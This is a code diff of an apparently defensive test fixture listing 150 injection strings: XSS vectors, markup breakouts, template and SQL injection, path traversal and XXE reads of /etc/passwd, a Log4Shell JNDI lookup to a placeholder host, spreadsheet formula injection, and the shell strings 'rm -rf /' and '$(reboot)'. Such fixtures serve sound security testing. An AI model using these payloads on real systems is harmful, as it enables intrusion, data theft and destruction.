@@ -1,13 +1,13 @@
-// 150 strings that would run, mislead or break something where text is taken for more than text. What runs calls `window.hostileRan()`.
-const run = 'hostileRan()';
-const letters = (text) => [...text].map((char) => `&#${char.codePointAt(0)};`).join('');
-const hex = (text) => [...text].map((char) => `\\x${char.charCodeAt(0).toString(16).padStart(2, '0')}`).join('');
+// 150 strings that are harmful where text is interpreted: as markup, script, SQL, a path, a header. Scripts call `window.injectionRan()`.
+const run = 'injectionRan()';
+const charReferences = (text) => [...text].map((char) => `&#${char.codePointAt(0)};`).join('');
+const hexEscapes = (text) => [...text].map((char) => `\\x${char.charCodeAt(0).toString(16).padStart(2, '0')}`).join('');
 
 const elements = [
   `<script>${run}</script>`,
   `<script src=data:text/javascript,${run}></script>`,
   `<img src=x onerror=${run}>`,
-  `<img src=x onerror="${letters(run)}">`,
+  `<img src=x onerror="${charReferences(run)}">`,
   `<svg onload=${run}>`,
   `<svg><script>${run}</script></svg>`,
   `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
@@ -50,17 +50,17 @@ const elements = [
   `<keygen autofocus onfocus=${run}>`,
   `<x onclick=${run} tabindex=1 id=x autofocus onfocus=${run}>x</x>`,
 ];
-const before = ['"><', "'><", '--><', '</title><', '</textarea><', '</script><', '</style><', ']]><', '`><'];
-const breakouts = before.map((start) => `${start}img src=x onerror=${run}>`);
+const closings = ['"><', "'><", '--><', '</title><', '</textarea><', '</script><', '</style><', ']]><', '`><'];
+const breakouts = closings.map((start) => `${start}img src=x onerror=${run}>`);
 const quotes = [`" onmouseover=${run} x="`, `' onfocus=${run} autofocus x='`, `\` onload=${run} x=\``, `" autofocus onfocus="${run}`, `x onpointerenter=${run}`];
 const schemes = [
   `javascript:${run}`, `JaVaScRiPt:${run}`, `java\tscript:${run}`, `\u0001javascript:${run}`, ` javascript:${run}`, `javascript://%0a${run}`,
-  `data:text/html,<script>${run}</script>`, `data:text/html;base64,PHNjcmlwdD5ob3N0aWxlUmFuKCk8L3NjcmlwdD4=`, `vbscript:${run}`, `blob:${run}`,
+  `data:text/html,<script>${run}</script>`, `data:text/html;base64,PHNjcmlwdD5pbmplY3Rpb25SYW4oKTwvc2NyaXB0Pg==`, `vbscript:${run}`, `blob:${run}`,
   'file:///etc/passwd', '//example.invalid/x', '\\\\example.invalid\\x', 'https://user:secret@example.invalid/', 'https://exаmple.invalid/',
 ];
 const templates = [
   `{{constructor.constructor('${run}')()}}`, `\${${run}}`, `#{${run}}`, `<%= ${run} %>`, `{%print(${run})%}`, `{{7*7}}`, `[[\${7*7}]]`, `@{${run}}`,
-  `eval('${hex(run)}')`, `\\u003cscript\\u003e${run}\\u003c/script\\u003e`, `&lt;script&gt;${run}&lt;/script&gt;`, `%3Cscript%3E${run}%3C/script%3E`,
+  `eval('${hexEscapes(run)}')`, `\\u003cscript\\u003e${run}\\u003c/script\\u003e`, `&lt;script&gt;${run}&lt;/script&gt;`, `%3Cscript%3E${run}%3C/script%3E`,
   `+ADw-script+AD4-${run}+ADw-/script+AD4-`, `＜script＞${run}＜/script＞`, `"-${run}-"`, `';${run}//`, `\\";${run}//`, `</script><script>${run}</script>`,
 ];
 const names = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', '__defineGetter__', 'null', 'undefined', 'NaN', 'true', '-0', '1e309', '[object Object]'];
@@ -70,10 +70,9 @@ const unicode = [
 ];
 const others = [
   "'; drop table tocsin.incidents; --", "' or '1'='1", '=cmd|calc!A1', '+1+1', '@SUM(1)', '-2+3', '../../../../etc/passwd', '%00', '%s%s%s%n', '${jndi:ldap://example.invalid/a}',
-  '\x1b[31mred\x1b[0m\x07', 'line one\r\nSet-Cookie: x=1', '\r\n\r\nevent: reset\ndata: {}\n\n', 'x'.repeat(400), '<'.repeat(200), '"'.repeat(200), '`; rm -rf / #', '$(reboot)', '[x](javascript:hostileRan())',
+  '\x1b[31mred\x1b[0m\x07', 'line one\r\nSet-Cookie: x=1', '\r\n\r\nevent: reset\ndata: {}\n\n', 'x'.repeat(400), '<'.repeat(200), '"'.repeat(200), '`; rm -rf / #', '$(reboot)', '[x](javascript:injectionRan())',
   '![x](https://example.invalid/x)', '<https://example.invalid>', '{"a":{"b":[', ']]>', '<!--', '<![CDATA[', '&nbsp;&lt;&amp;amp;', '<?xml version="1.0"?><!DOCTYPE x SYSTEM "file:///etc/passwd">', '#', '?x=1&y=2#z',
 ];
 const all = [...elements, ...breakouts, ...quotes, ...schemes, ...templates, ...others, ...unicode, ...names];
 
-/** The strings, in one order. */
-export const hostile = all.slice(0, 150);
+export const injectionStrings = all.slice(0, 150);
